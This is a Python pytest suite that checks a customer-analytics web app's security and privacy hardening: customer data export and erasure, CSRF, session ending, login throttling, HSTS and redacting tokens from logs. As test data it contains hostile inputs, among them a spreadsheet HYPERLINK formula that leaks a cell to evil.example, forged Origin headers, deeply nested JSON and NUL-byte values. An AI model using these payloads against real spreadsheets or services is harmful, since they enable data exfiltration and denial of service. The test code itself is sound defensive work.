"""Security and privacy hardening (docs/security.md): each finding of the probe, kept
fixed. Privacy tables against the schema, erase leaving no readable trace, caches that
forget erased data, CSRF on every form, sessions that end, login throttling, CSV cells,
and bad inputs answered 4xx with nothing stored while /healthz stays 200."""

from __future__ import annotations

import json
import re
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psycopg
import pytest
from fastapi.testclient import TestClient

from conftest import _PG_PROBLEM, PG_URL
from touchpoints.connectors import chatwoot
from touchpoints.core.settings import Settings
from touchpoints.ingest import ingest_records
from touchpoints.ingest.identities import link
from touchpoints.ingest.privacy import (
    CUSTOMER_TABLES,
    OTHER_TABLES,
    erase_customer,
    export_customer,
)
from touchpoints.ingest.pseudonymize import pseudonymize
from touchpoints.server.app import create_app
from touchpoints.store import open_store
from touchpoints.store.remote import PREFIX as REMOTE_PREFIX
from touchpoints.store.schema import ddl

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = Path(__file__).parent / "fixtures" / "connectors"
ENGINES = ["duckdb", pytest.param("postgres", marks=pytest.mark.postgres)]
KEY = "pseudonym-key-for-tests"
CHATWOOT_TOKEN = "chatwoot-token-9f1e"
PASSWORD = "correct-horse-9"


def _target(engine: str, tmp_path: Path) -> str:
    if engine == "duckdb":
        return str(tmp_path / f"sec_{uuid.uuid4().hex[:8]}.duckdb")
    if _PG_PROBLEM:
        pytest.skip(f"PostgreSQL not reachable: {_PG_PROBLEM}")
    return f"{PG_URL}?schema=tp_sec_{uuid.uuid4().hex[:12]}"


def _drop(target: str) -> None:
    if target.startswith("postgresql://"):
        schema = target.rsplit("schema=", 1)[1]
        with psycopg.connect(PG_URL, autocommit=True) as conn:
            conn.execute(f'DROP SCHEMA IF EXISTS "{schema}" CASCADE')


@pytest.fixture(params=ENGINES)
def target(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    value = _target(request.param, tmp_path)
    yield value
    _drop(value)


def _settings(**values: Any) -> Settings:
    return Settings(_env_file=None, **values)


def _event(i: int, customer: str = "c", **extra: Any) -> dict[str, Any]:
    return {
        "event_id": f"e{i}",
        "customer_id": f"{customer}{i}" if customer == "c" else customer,
        "touchpoint": "store",
        "ts": "2026-01-05T10:00:00Z",
        "action": "interaction",
        **extra,
    }


# -- (1) every table that can hold a person's data ---------------------------------------
def _documented_tables() -> dict[str, str]:
    """The table of docs/privacy.md's "Where personal data lives": name -> covered?"""
    text = (ROOT / "docs" / "privacy.md").read_text(encoding="utf-8")
    section = text.split("## Where personal data lives", 1)[1].split("\n## ", 1)[0]
    rows = re.findall(r"^\| `(\w+)` \| (yes|no) \|", section, flags=re.M)
    return dict(rows)


def _tables_in_code() -> set[str]:
    """Every table the program creates: the schema's and those made on first use
    (identities, derived facts, the quarantine's resolutions), found in the source."""
    code = "\n".join(ddl("duckdb"))
    for path in (ROOT / "src" / "touchpoints").rglob("*.py"):
        code += "\n" + path.read_text(encoding="utf-8")
    return set(re.findall(r"CREATE TABLE IF NOT EXISTS (\w+)", code))


def test_every_schema_table_is_classified_in_code_and_docs() -> None:
    tables = _tables_in_code()
    assert {"identities", "event_facts", "attendant_messages", "changes"} <= tables
    assert tables == set(CUSTOMER_TABLES) | set(OTHER_TABLES)
    assert not set(CUSTOMER_TABLES) & set(OTHER_TABLES)
    documented = _documented_tables()
    assert set(documented) == tables
    assert {t for t, covered in documented.items() if covered == "yes"} == set(CUSTOMER_TABLES)


def test_export_and_erase_cover_every_customer_table(target: str) -> None:
    store = open_store(target)
    try:
        ingest_records(store, [_event(1, "ana@example.com", comment="Ana's comment")], "t")
        store.execute(
            "INSERT INTO survey_tokens VALUES ('tok1', 'e1', NULL)",
        )
        store.execute(
            "INSERT INTO connector_state VALUES ('chatwoot', '2:9', $v, CURRENT_TIMESTAMP)",
            {"v": json.dumps({"customer_id": "ana@example.com", "status": "open"})},
        )
        ingest_records(store, [{"customer_id": "ana@example.com", "ts": "bad"}], "q")
        link(store, [["ana@example.com", "ana-crm-7"]], "crm")
        store.execute(
            "INSERT INTO attendant_conversations (conversation_id, channel, thread, customer_id, "
            "started_at, version) VALUES ('c-ana', 'whatsapp', 't1', 'ana@example.com', "
            "CURRENT_TIMESTAMP, 1), ('c-bia', 'whatsapp', 't2', 'bia@example.com', "
            "CURRENT_TIMESTAMP, 1)"
        )
        store.execute(
            "INSERT INTO attendant_messages (message_id, conversation_id, received_at, text, "
            "status, attempts) VALUES ('m1', 'c-ana', CURRENT_TIMESTAMP, 'sou ana@example.com', "
            "'sent', 1), ('m2', 'c-ana', CURRENT_TIMESTAMP, 'meu pedido', 'sent', 1), "
            "('m3', 'c-bia', CURRENT_TIMESTAMP, 'oi', 'sent', 1)"
        )
        exported = export_customer(store, "ana@example.com")
        assert exported["counts"]["attendant_conversations"] == 1
        assert sorted(m["text"] for m in exported["attendant_messages"]) == [
            "meu pedido",
            "sou ana@example.com",
        ]
        for table in CUSTOMER_TABLES:
            assert exported["counts"].get(table, exported["counts"].get("events")) >= 1, table
        assert exported["connector_state"][0]["value"]["customer_id"] == "ana@example.com"
        result = erase_customer(store, "ana@example.com")
        assert result["connector_state"] == 1 and result["survey_tokens"] == 1
        assert (result["attendant_conversations"], result["attendant_messages"]) == (1, 2)
        for table in CUSTOMER_TABLES:
            rows = store.query(f"SELECT * FROM {table}")
            assert "ana@example.com" not in json.dumps(rows, default=str), table
        # Another person's conversation and message stay.
        assert [r["message_id"] for r in store.query("SELECT * FROM attendant_messages")] == ["m3"]
        assert store.count("attendant_conversations") == 1
    finally:
        store.close()


def _chatwoot_client(target: str, **settings: Any) -> TestClient:
    app = create_app(
        settings=_settings(pseudonymize_key=KEY, chatwoot_webhook_token=CHATWOOT_TOKEN, **settings),
        target=target,
    )
    return TestClient(app)


def _chatwoot_payloads() -> list[dict[str, Any]]:
    payloads = json.loads((FIXTURES / "chatwoot_answered.json").read_text())
    for p in payloads:
        text = json.dumps(p).replace('"cust-42"', "null")
        p.clear()
        p.update(json.loads(text))
    return payloads


def test_chatwoot_state_is_pseudonymised_then_exported_and_erased(target: str) -> None:
    with _chatwoot_client(target) as client:
        first = _chatwoot_payloads()[0]
        r = client.post(
            "/webhooks/chatwoot", json=first, headers={chatwoot.TOKEN_HEADER: CHATWOOT_TOKEN}
        )
        assert r.status_code == 200, r.text
        store = client.app.state.service.store  # type: ignore[attr-defined]
        state = store.query("SELECT value FROM connector_state")
        assert len(state) == 1
        assert "+5511999990000" not in state[0]["value"]
        assert "ana@example.com" not in state[0]["value"]
        assert json.loads(state[0]["value"])["customer_id"] == pseudonymize("+5511999990000", KEY)
    store = open_store(target)
    try:
        exported = export_customer(store, "+5511999990000", KEY)
        assert exported["counts"]["connector_state"] == 1
        assert erase_customer(store, "+5511999990000", KEY)["connector_state"] == 1
        assert store.count("connector_state") == 0
    finally:
        store.close()


# -- (2) erase leaves no readable trace -----------------------------------------------------
SECRET_COMMENT = "the-erased-comment-7d1c"


def _ana_and_others(store: Any) -> None:
    rows = [_event(i) for i in range(200)]
    rows += [
        _event(1000 + i, "ana@example.com", action="feedback", nps=3, comment=SECRET_COMMENT)
        for i in range(30)
    ]
    ingest_records(store, rows, "t")


def test_erase_leaves_no_bytes_in_the_duckdb_file(tmp_path: Path) -> None:
    path = tmp_path / "erase.duckdb"
    store = open_store(str(path))
    _ana_and_others(store)
    store.execute("CHECKPOINT")
    assert SECRET_COMMENT.encode() in path.read_bytes()
    result = erase_customer(store, "ana@example.com")
    assert result["feedback"] == 30
    assert store.count() == 200  # the store still works on the fresh file
    store.close()
    data = path.read_bytes() + b"".join(p.read_bytes() for p in tmp_path.glob("erase.duckdb*"))
    assert SECRET_COMMENT.encode() not in data
    assert b"ana@example.com" not in data
    assert sorted(p.name for p in tmp_path.iterdir()) == ["erase.duckdb"]
    again = open_store(str(path))
    assert again.count() == 200
    again.close()


@pytest.mark.postgres
def test_erase_on_postgres_leaves_nothing_readable_through_sql(tmp_path: Path) -> None:
    target = _target("postgres", tmp_path)
    store = open_store(target)
    try:
        _ana_and_others(store)
        link(store, [["ana@example.com", "ana-crm-7"]], "crm")  # the map is made on first use
        store.execute("ANALYZE events")
        stats = "SELECT most_common_vals::text AS v FROM pg_stats WHERE tablename = 'events' AND schemaname = current_schema()"
        assert any("ana@example.com" in (r["v"] or "") for r in store.query(stats))
        erase_customer(store, "ana@example.com")
        # The planner's sample values are refreshed: the id is no longer among them.
        assert not any("ana@example.com" in (r["v"] or "") for r in store.query(stats))
        for table in CUSTOMER_TABLES:
            text = json.dumps(store.query(f"SELECT * FROM {table}"), default=str)
            assert SECRET_COMMENT not in text and "ana@example.com" not in text
        # Byte level, where this process can read the server's files (a local test server).
        store.execute("CHECKPOINT")
        base = Path(store.query("SELECT current_setting('data_directory') AS d")[0]["d"])
        for table in CUSTOMER_TABLES:
            path = base / store.query(f"SELECT pg_relation_filepath('{table}') AS p")[0]["p"]
            try:
                data = b"".join(p.read_bytes() for p in path.parent.glob(path.name + "*"))
            except OSError:
                pytest.skip("the PostgreSQL data directory is not readable from the tests")
            assert SECRET_COMMENT.encode() not in data, table
            assert b"ana@example.com" not in data, table
    finally:
        store.close()
        _drop(target)


# -- a dashboard with users -----------------------------------------------------------------
def _app(target: str, tmp_path: Path, **settings: Any) -> Any:
    from touchpoints.server import users

    app = create_app(
        settings=_settings(secret_key_file=str(tmp_path / "secret_key"), **settings),
        target=target,
    )
    service = app.state.service
    for name, role in (("ada", "admin"), ("sue", "supervisor")):
        service.read(users.create_user, name, PASSWORD, role)
    return app


def _token(client: TestClient) -> str:
    from forms import form_token

    return form_token(client)


def _login(client: TestClient, username: str = "ada", password: str = PASSWORD) -> Any:
    return client.post(
        "/login",
        data={"username": username, "password": password, "csrf_token": _token(client)},
    )


@pytest.fixture
def dash(tmp_path: Path) -> Iterator[Any]:
    app = _app(str(tmp_path / "dash.duckdb"), tmp_path, secret_key="s" * 40)
    yield app
    app.state.service.close()


# -- (4) CSRF on every state-changing form ---------------------------------------------------
def _routes(app: Any) -> Iterator[Any]:
    """Every route the app answers, included routers flattened (each has path, methods,
    dependant)."""
    for route in app.routes:
        contexts = getattr(route, "effective_route_contexts", None)
        if contexts is not None:
            yield from contexts()
        elif hasattr(route, "dependant"):
            yield route


def _form_routes(app: Any) -> list[tuple[str, str, Any]]:
    """Every non-API route that changes state (POST/PUT/PATCH/DELETE), from the app."""
    found = []
    for route in _routes(app):
        # The API, the providers' webhooks and the local door of the CLI (store/remote.py)
        # are never opened by a cookie (an API key, a signature, a token in a header), so a
        # forged cross-site form has nothing to ride on.
        if route.path.startswith(("/v1/", "/webhooks/", REMOTE_PREFIX + "/")):
            continue
        for method in sorted(set(route.methods) - {"GET", "HEAD", "OPTIONS"}):
            found.append((method, route.path.replace("{token}", "not-a-real-token"), route))
    return found


def test_every_form_route_refuses_a_missing_or_wrong_token(dash: Any) -> None:
    from touchpoints.server import csrf

    client = TestClient(dash, follow_redirects=False)
    assert _login(client).status_code == 303
    routes = _form_routes(dash)
    assert {p for _, p, _ in routes} >= {"/login", "/logout", "/catalog", "/s/not-a-real-token"}
    for method, path, route in routes:
        for token in (None, "", "0" * 64, _token(TestClient(dash))):  # the last: another browser's
            data = {"yaml_text": "touchpoints: []", "username": "ada", "password": PASSWORD}
            if token is not None:
                data["csrf_token"] = token
            r = client.request(method, path, data=data)
            assert r.status_code == 403, (method, path, token, r.status_code)
            assert "form refused" in r.json()["detail"]
        # Structural: each declares the one dependency.
        assert any(d.call is csrf.csrf_protect for d in route.dependant.dependencies), path
    # Nothing changed: still signed in, the catalog as it was.
    assert client.get("/catalog").status_code == 200
    assert dash.state.service.store.catalog().touchpoints


def test_a_foreign_origin_is_refused_even_with_a_token(dash: Any) -> None:
    client = TestClient(dash, follow_redirects=False)
    assert _login(client).status_code == 303
    token = _token(client)
    for headers in (
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
        {"Origin": "http://testserver.evil.example"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
    ):
        r = client.post(
            "/catalog", data={"yaml_text": "x: 1", "csrf_token": token}, headers=headers
        )
        assert r.status_code == 403 and "another site" in r.json()["detail"]
        r = client.post(
            "/login",
            data={"username": "sue", "password": PASSWORD, "csrf_token": token},
            headers=headers,
        )
        assert r.status_code == 403
    # The same host through a TLS proxy the server was not told about is the same site.
    same = {"Origin": "https://testserver", "Sec-Fetch-Site": "same-origin"}
    r = client.post("/logout", data={"csrf_token": token}, headers=same)
    assert r.status_code == 303


# -- (5) sessions end -----------------------------------------------------------------------
def test_logout_ends_the_session_for_a_copied_cookie(dash: Any) -> None:
    client = TestClient(dash, follow_redirects=False)
    _login(client)
    copied = client.cookies.get("tp_session")
    assert client.post("/logout", data={"csrf_token": _token(client)}).status_code == 303
    thief = TestClient(dash, follow_redirects=False)
    thief.cookies.set("tp_session", copied)
    assert thief.get("/catalog").status_code == 303  # to /login


def test_deleting_recreating_or_changing_a_user_ends_their_sessions(dash: Any) -> None:
    from touchpoints.server import users

    service = dash.state.service
    client = TestClient(dash, follow_redirects=False)
    _login(client, "sue")
    assert client.get("/catalog").status_code == 200
    service.read(users.delete_user, "sue")
    service.read(users.create_user, "sue", "another-pass-1", "admin")
    assert client.get("/catalog").status_code == 303
    _login(client, "sue", "another-pass-1")
    assert client.get("/catalog").status_code == 200
    service.read(users.update_user, "sue", role="supervisor")
    assert client.get("/catalog").status_code == 303
    _login(client, "sue", "another-pass-1")
    service.read(users.update_user, "sue", password="third-pass-22")
    assert client.get("/catalog").status_code == 303


# -- (6) login throttling -------------------------------------------------------------------
def test_login_is_throttled_per_account_then_429_even_for_the_right_password(dash: Any) -> None:
    client = TestClient(dash, follow_redirects=False)
    client.cookies.set("tp_lang", "en")  # the message below is asserted in English
    answers = [_login(client, "ada", "wrong-guess").status_code for _ in range(8)]
    assert answers[:5] == [401] * 5 and 429 in answers
    r = _login(client, "ada", PASSWORD)
    assert r.status_code == 429
    assert int(r.headers["Retry-After"]) >= 1
    assert "Too many failed sign-ins" in r.text


def test_throttle_backs_off_and_forgives() -> None:
    from touchpoints.server.throttle import ACCOUNT_CAP_SECONDS, LoginThrottle

    now = [1000.0]
    throttle = LoginThrottle(clock=lambda: now[0])
    for _ in range(5):
        assert throttle.wait("ana", "10.0.0.1") == 0
        throttle.failed("ana", "10.0.0.1")
    assert throttle.wait("ana", "10.0.0.9") == 1  # the account, from any address
    for _ in range(30):  # an attacker keeps failing as fast as allowed
        now[0] += throttle.wait("ana", f"10.0.1.{_}")
        throttle.failed("ana", f"10.0.1.{_}")
    # ...yet the real user never waits longer than the cap after the last failure.
    assert throttle.wait("ana", "192.168.0.5") <= ACCOUNT_CAP_SECONDS
    now[0] += ACCOUNT_CAP_SECONDS
    assert throttle.wait("ana", "192.168.0.5") == 0
    throttle.succeeded("ana")
    assert throttle.wait("ana", "192.168.0.5") == 0


# -- (3) erase and purge reach every cache at once ------------------------------------------
def _feedback_app(target: str, tmp_path: Path) -> Any:
    app = _app(target, tmp_path, secret_key="s" * 40)
    rows = [_event(i, action="feedback", nps=8, comment=f"fine {i}") for i in range(20)]
    rows.append(_event(99, "ana@example.com", action="feedback", nps=1, comment=SECRET_COMMENT))
    ingest_records(app.state.service.store, rows, "t")
    return app


def test_erase_from_another_process_reaches_the_dashboard_cache_at_once(
    target: str, tmp_path: Path
) -> None:
    if not target.startswith("postgresql://"):
        pytest.skip("a DuckDB file is opened by one process: the CLI cannot erase under a server")
    app = _feedback_app(target, tmp_path)
    with TestClient(app, follow_redirects=False) as client:
        _login(client)
        assert SECRET_COMMENT in client.get("/feedback").text
        assert SECRET_COMMENT in client.get("/data/comments?format=csv").text
        other = open_store(target)  # `touchpoints customer erase` in another process
        erase_customer(other, "ana@example.com")
        other.close()
        assert SECRET_COMMENT not in client.get("/feedback").text
        assert SECRET_COMMENT not in client.get("/data/comments?format=csv").text


def test_erase_in_process_reaches_the_cache_and_purge_too(target: str, tmp_path: Path) -> None:
    from touchpoints.ingest.privacy import purge_comments

    app = _feedback_app(target, tmp_path)
    with TestClient(app, follow_redirects=False) as client:
        _login(client)
        assert "fine 3" in client.get("/feedback").text
        app.state.service.read(purge_comments, 0, scrub=False)
        page = client.get("/feedback")
        assert "fine 3" not in page.text and SECRET_COMMENT not in page.text
        assert page.headers["cache-control"] == "no-store"


# -- (7) CSV formula injection ---------------------------------------------------------------
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
    from touchpoints.analytics.results import to_csv

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    rows = [
        {"comment": evil, "agent": "@SUM(1+1)", "n": -3, "x": 1.5},
        {"comment": "+55 11 9999", "agent": "-2+3", "n": 0, "x": None},
        {"comment": "\tcmd", "agent": "plain", "n": 1, "x": 2.0},
    ]
    lines = to_csv(rows).splitlines()
    assert lines[0] == "comment,agent,n,x"
    assert lines[1] == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",\'@SUM(1+1),-3,1.5'
    assert lines[2] == "'+55 11 9999,'-2+3,0,"
    assert lines[3] == "'\tcmd,plain,1,2.0"


def test_dashboard_csv_download_neutralises_a_comment(tmp_path: Path) -> None:
    target = str(tmp_path / "csv.duckdb")
    app = _app(target, tmp_path, secret_key="s" * 40)
    evil = '=HYPERLINK("http://evil.example/","click")'
    ingest_records(
        app.state.service.store, [_event(1, action="feedback", nps=2, comment=evil)], "t"
    )
    with TestClient(app, follow_redirects=False) as client:
        _login(client)
        r = client.get("/data/comments?format=csv")
        assert r.status_code == 200 and r.headers["cache-control"] == "no-store"
        assert "'=HYPERLINK" in r.text
        assert not any(
            cell.startswith(("=", "+", "@"))
            for line in r.text.splitlines()
            for cell in line.split(",")
        )


# -- (8) TLS behind a trusted proxy, HSTS; (9) tokens out of logs ----------------------------
def test_secure_cookie_and_hsts_behind_a_trusted_proxy(tmp_path: Path) -> None:
    app = _app(
        str(tmp_path / "proxy.duckdb"),
        tmp_path,
        secret_key="s" * 40,
        trusted_proxies=["testclient"],
        hsts_seconds=31536000,
    )
    tls = {"X-Forwarded-Proto": "https", "Host": "dash.example"}
    with TestClient(app, follow_redirects=False, base_url="http://dash.example") as client:
        page = client.get("/login", headers=tls)
        assert page.headers["strict-transport-security"] == "max-age=31536000; includeSubDomains"
        assert "Secure" in page.headers["set-cookie"]
        token = re.search(r'name="csrf_token" value="(\w+)"', page.text).group(1)  # type: ignore[union-attr]
        client.cookies.set("tp_csrf", page.cookies["tp_csrf"])
        r = client.post(
            "/login",
            data={"username": "ada", "password": PASSWORD, "csrf_token": token},
            headers={**tls, "Origin": "https://dash.example"},
        )
        assert r.status_code == 303, r.text
        session = next(c for c in r.headers.get_list("set-cookie") if c.startswith("tp_session"))
        assert "Secure" in session and "HttpOnly" in session
        plain = client.get("/login")  # not through the proxy's TLS: no HSTS on plain HTTP
        assert "strict-transport-security" not in plain.headers
    untrusted = _app(str(tmp_path / "direct.duckdb"), tmp_path, secret_key="s" * 40)
    with TestClient(untrusted) as client:
        page = client.get("/login", headers=tls)
        assert "strict-transport-security" not in page.headers
        assert "Secure" not in page.headers["set-cookie"]


def test_access_log_lines_carry_no_tokens() -> None:
    import logging

    from touchpoints.server.app import RedactTokens

    record = logging.LogRecord(
        "uvicorn.access", logging.INFO, __file__, 1, '%s - "%s %s HTTP/%s" %d', None, None
    )
    for path, shown in (
        ("/s/eyJhbGciOi.abc?lang=pt", "/s/[redacted]?lang=pt"),
        ("/webhooks/chatwoot?token=abc&x=1", "/webhooks/chatwoot?token=[redacted]&x=1"),
        (
            "/webhooks/whatsapp?hub.mode=subscribe&hub.verify_token=v1",
            "/webhooks/whatsapp?hub.mode=subscribe&hub.verify_token=[redacted]",
        ),
        ("/v1/kpis?from=2026-01-01", "/v1/kpis?from=2026-01-01"),
    ):
        record.args = ("1.2.3.4:5", "GET", path, "1.1", 200)
        assert RedactTokens().filter(record)
        assert record.getMessage() == f'1.2.3.4:5 - "GET {shown} HTTP/1.1" 200'


# -- (10) out-of-range times, (also) length limits: quarantined on every path ---------------
def test_out_of_range_times_and_overlong_texts_are_quarantined_with_the_reason(
    target: str, tmp_path: Path
) -> None:
    from conftest import write_csv
    from touchpoints.ingest import ingest_files
    from touchpoints.server import auth

    app = create_app(settings=_settings(), target=target)
    with TestClient(app) as client:
        store = app.state.service.store
        key = auth.create_key(store, ["ingest"])[1]
        bad = [
            _event(1, ts="0001-01-01T00:00:00Z"),
            _event(2, ts="9999-12-31T23:59:59Z"),
            _event(3, comment="x" * 1_000_001),
            _event(4, "c" * 100_000),
        ]
        r = client.post("/v1/events", json=bad, headers={"Authorization": f"Bearer {key}"})
        assert r.status_code == 200
        reasons = [i["reason"] for i in r.json()["items"]]
        assert reasons[0].startswith("ts: outside the accepted time range 2000-01-01T00:00:00 ..")
        assert "'0001-01-01 00:00:00'" in reasons[0]
        assert reasons[1].startswith("ts: outside the accepted time range")
        assert reasons[2] == "comment: longer than 5,000 characters"
        assert reasons[3] == "customer_id: longer than 256 characters"
        # The file path applies the same checks.
        path = write_csv(tmp_path / "bad.csv", [_event(5, ts="1970-01-01T00:00:00Z"), _event(6)])
        ingest_files(store, [str(path)])
        assert store.count() == 1
        assert store.count("quarantine") == 5
        assert client.get("/healthz").status_code == 200


def test_the_time_bounds_are_configurable(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from touchpoints.core.settings import get_settings
    from touchpoints.ingest.checks import ts_bounds

    monkeypatch.setenv("TOUCHPOINTS_TS_MIN", "1990-01-01")
    monkeypatch.setenv("TOUCHPOINTS_TS_MAX_AHEAD_DAYS", "0")
    get_settings.cache_clear()
    try:
        low, high = ts_bounds()
        assert low.isoformat() == "1990-01-01T00:00:00"
        store = open_store(str(tmp_path / "b.duckdb"))
        result = ingest_records(store, [_event(1, ts="1995-06-01T00:00:00Z")], "t")
        assert result.stored == 1
        store.close()
    finally:
        get_settings.cache_clear()


# -- (11) bad input is a 4xx, nothing stored, /healthz still 200 -----------------------------
BAD_TIMEZONES = ("a" * 300, "posixrules", "right/UTC", "localtime")


def test_bad_inputs_are_4xx_with_nothing_stored(target: str, tmp_path: Path) -> None:
    import hashlib
    import hmac

    from touchpoints.server import auth

    app = _app(
        target,
        tmp_path,
        secret_key="s" * 40,
        chatwoot_webhook_secret="cw-hmac",
        chatwoot_webhook_token=CHATWOOT_TOKEN,
        whatsapp_app_secret="wa-secret",
    )
    store = app.state.service.store
    with TestClient(app, follow_redirects=False, raise_server_exceptions=False) as client:
        key = auth.create_key(store, ["admin"])[1]
        bearer = {"Authorization": f"Bearer {key}"}
        _login(client)
        deep = b"[" * 100_000
        stamp = str(int(time.time()))
        signed = hmac.new(b"cw-hmac", stamp.encode() + b"." + deep, hashlib.sha256).hexdigest()
        wa = hmac.new(b"wa-secret", deep, hashlib.sha256).hexdigest()
        answers = {
            "deep /v1/events": client.post(
                "/v1/events", content=deep, headers={**bearer, "Content-Type": "application/json"}
            ),
            "deep chatwoot": client.post(
                "/webhooks/chatwoot",
                content=deep,
                headers={
                    chatwoot.SIGNATURE_HEADER: f"sha256={signed}",
                    chatwoot.TIMESTAMP_HEADER: stamp,
                },
            ),
            "deep whatsapp": client.post(
                "/webhooks/whatsapp", content=deep, headers={"X-Hub-Signature-256": f"sha256={wa}"}
            ),
            "to 9999 /v1/kpis": client.get("/v1/kpis", params={"to": "9999-12-31"}, headers=bearer),
            "nul filter": client.get("/v1/kpis", params={"channel": "a\x00b"}, headers=bearer),
            "nul page filter": client.get("/service", params={"channel": "a\x00b"}),
            "nul login": client.post(
                "/login",
                data={"username": "a\x00b", "password": "x", "csrf_token": _token(client)},
            ),
        }
        for tz in BAD_TIMEZONES:
            answers[f"tz {tz[:10]}"] = client.get(
                "/v1/kpis", params={"timezone": tz}, headers=bearer
            )
        for page in ("/", "/service", "/feedback", "/journeys", "/catalog", "/touchpoints/phone"):
            answers[f"to 9999 {page}"] = client.get(page, params={"to": "9999-12-31"})
        answers["to 9999 /data/kpis"] = client.get("/data/kpis", params={"to": "9999-12-31"})
        for name, r in answers.items():
            assert 400 <= r.status_code < 500, (name, r.status_code, r.text[:200])
        assert "between 1900 and 2200" in answers["to 9999 /v1/kpis"].json()["detail"]
        assert "unknown time zone" in answers["tz posixrules"].json()["detail"]
        assert "nested too deeply" in answers["deep chatwoot"].json()["detail"]
        assert store.count() == 0 and store.count("quarantine") == 0
        assert client.get("/healthz").status_code == 200


def test_survey_form_with_a_superscript_digit_is_422_and_nothing_stored(tmp_path: Path) -> None:
    from forms import FormClient
    from touchpoints.ingest import surveys

    target = str(tmp_path / "survey.duckdb")
    app = create_app(settings=_settings(secret_key="s" * 40), target=target)
    service = app.state.service
    ingest_records(service.store, [_event(1)], "t")
    link = service.read(surveys.create_link, service.settings, "e1", None)
    with FormClient(app) as client:
        r = client.post("/s/" + link["token"], data={"nps": "²"})
        assert r.status_code == 422
        r = client.post("/s/" + link["token"], data={"comment": "a\x00b"})
        assert r.status_code == 422
        assert service.store.count() == 1
        assert client.get("/healthz").status_code == 200


# -- (12) the catalog: bounded, parsed off the event loop ------------------------------------
def test_catalog_put_is_bounded_and_parsed_in_a_worker_thread(tmp_path: Path) -> None:
    import asyncio

    from touchpoints.core import catalog as catalog_module
    from touchpoints.server import auth

    app = create_app(settings=_settings(catalog_max_bytes=4096), target=str(tmp_path / "c.duckdb"))
    store = app.state.service.store
    seen: list[str] = []
    real = catalog_module.parse_catalog

    def spy(text: str, source: str) -> Any:
        try:
            asyncio.get_running_loop()
            seen.append("event loop")
        except RuntimeError:  # no loop runs in this thread: a worker
            seen.append("worker")
        return real(text, source)

    key = auth.create_key(store, ["admin"])[1]
    headers = {"Authorization": f"Bearer {key}", "Content-Type": "application/yaml"}
    with TestClient(app) as client:
        big = client.put("/v1/catalog", content=b"touchpoints: []\n" + b"#" * 5000, headers=headers)
        assert big.status_code == 413
        text = store.catalog().to_yaml()
        with pytest.MonkeyPatch.context() as mp:
            mp.setattr(catalog_module, "parse_catalog", spy)
            ok = client.put("/v1/catalog", content=text.encode(), headers=headers)
        assert ok.status_code == 200, ok.text
        assert seen == ["worker"]
        assert client.get("/healthz").status_code == 200


# -- also: /metrics durations, the live cache's bound ------------------------------------------
def test_metrics_record_request_durations_in_seconds(tmp_path: Path) -> None:
    app = create_app(settings=_settings(), target=str(tmp_path / "m.duckdb"))
    with TestClient(app) as client:
        for _ in range(3):
            client.get("/healthz")
        text = client.get("/metrics").text
    total = re.search(r'_sum\{[^}]*route="/healthz"[^}]*\} ([0-9.e+-]+)', text)
    assert total is not None, text[:2000]
    assert 0 < float(total.group(1)) < 10


def test_live_snapshot_cache_is_bounded() -> None:
    from touchpoints.server import live

    class Service:
        def read(self, fn: Any, *args: Any) -> dict[str, Any]:
            return {}

    snapshots = live.SnapshotCache()
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(live.registry, "get", lambda name: _FakeLive())
        for i in range(live.MAX_SNAPSHOTS * 3):
            snapshots.get(Service(), (60, f"tp{i}", None), 1)
    assert len(snapshots) <= live.MAX_SNAPSHOTS


class _FakeLive:
    def parse(self, values: dict[str, Any]) -> tuple[None, None]:
        return None, None

    def run(self, *args: Any) -> dict[str, Any]:
        return {}


def test_users_update_command_changes_role_and_ends_sessions(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from touchpoints.cli import app as cli
    from touchpoints.server import users

    db = str(tmp_path / "u.duckdb")
    runner = CliRunner()
    made = runner.invoke(
        cli,
        [
            "users",
            "create",
            "--username",
            "bea",
            "--role",
            "analyst",
            "--password",
            PASSWORD,
            "--db",
            db,
        ],
    )
    assert made.exit_code == 0, made.output
    store = open_store(db)
    before = users.session_epoch(store, "bea")
    store.close()
    changed = runner.invoke(
        cli, ["users", "update", "--username", "bea", "--role", "supervisor", "--db", db]
    )
    assert changed.exit_code == 0, changed.output
    assert "sessions were ended" in changed.output
    store = open_store(db)
    assert users.get_user(store, "bea") == users.User("bea", "supervisor")
    assert users.session_epoch(store, "bea") != before
    store.close()
    nothing = runner.invoke(cli, ["users", "update", "--username", "bea", "--db", db])
    assert nothing.exit_code != 0
    assert "give --role and/or --password" in str(nothing.exception)
